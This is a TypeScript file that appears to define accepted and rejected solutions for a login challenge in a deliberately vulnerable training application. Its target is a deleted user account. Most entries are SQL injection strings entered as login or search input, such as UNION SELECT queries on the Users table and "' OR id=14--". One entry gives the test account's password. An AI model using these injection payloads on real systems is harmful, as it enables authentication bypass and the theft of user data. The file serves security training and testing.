import { defineWays } from '#range/define.ts'
import { logInBy, searchOn } from '#range/errands.ts'

export default defineWays({
  otherWays: {
    'the row, selected once more': (visitor) => logInBy(visitor, "' UNION SELECT * FROM Users WHERE id=14--"),
    'a condition on what was deleted': (visitor) => logInBy(visitor, "' or deletedAt IS NOT NULL--"),
    'a pattern in place of his address': (visitor) => logInBy(visitor, "' OR email LIKE 'chris%'--"),
    'the number of his row': (visitor) => logInBy(visitor, "' OR id=14--"),
  },
  mishaps: {
    'a made-up row that borrows the number': [
      200,
      (visitor) =>
        logInBy(
          visitor,
          "' UNION SELECT 14,'','nobody@example.org','x','customer','','','','',1,'2020-01-01','2020-01-01',NULL--",
        ),
    ],
    'his address and his real password': [
      401,
      async (visitor) => visitor.login(`chris.pike@${await visitor.domain()}`, 'uss enterprise'),
    ],
    'his address with any password': [
      401,
      async (visitor) => visitor.login(`chris.pike@${await visitor.domain()}`, 'x'),
    ],
    'a quote that is closed again': [401, (visitor) => logInBy(visitor, "chris''")],
    'a list of who was deleted': [
      200,
      (visitor) =>
        searchOn(visitor, 'UNION SELECT id,email,deletedAt,4,5,6,7,8,9 FROM Users WHERE deletedAt IS NOT NULL'),
    ],
    'somebody who is still there': [200, (visitor) => logInBy(visitor, "' OR id=17--")],
  },
})
